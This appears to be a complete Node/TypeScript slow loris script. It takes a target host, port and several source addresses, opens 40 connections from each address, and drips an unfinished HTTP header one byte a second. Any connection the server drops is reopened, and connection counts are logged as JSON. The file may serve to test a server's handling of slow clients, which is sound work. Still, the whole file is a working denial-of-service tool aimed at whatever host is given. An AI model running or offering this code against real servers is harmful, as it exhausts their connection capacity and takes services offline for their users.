import { connect } from 'node:net';

// A slow loris: `node slow-clients.ts PORT TARGET FROM...`. From each address it holds as many connections as it gets,
// of which each sends the head of a request, one letter a second, and never ends it. What is closed is opened again.
// Prints what it has, as JSON, every half second.
const [portText = '', host = '', ...addresses] = process.argv.slice(2);
const each = 40;
const figures = { open: 0, opened: 0, closed: 0 };

function hold(localAddress: string): void {
  const socket = connect({ port: Number(portText), host, localAddress });
  let dripping: NodeJS.Timeout | undefined;
  socket.on('connect', () => {
    figures.open += 1;
    figures.opened += 1;
    socket.write('GET /ten.txt HTTP/1.1\r\nX-Slow: ');
    dripping = setInterval(() => socket.write('x'), 1_000);
    socket.once('close', () => {
      figures.open -= 1;
      figures.closed += 1;
    });
  });
  // A server that lets go of a connection may reset it.
  socket.on('error', () => undefined);
  socket.on('data', () => undefined);
  socket.on('close', () => {
    clearInterval(dripping);
    setTimeout(() => hold(localAddress), 250);
  });
}

for (const address of addresses) for (let index = 0; index < each; index += 1) hold(address);
setInterval(() => console.log(JSON.stringify(figures)), 500);
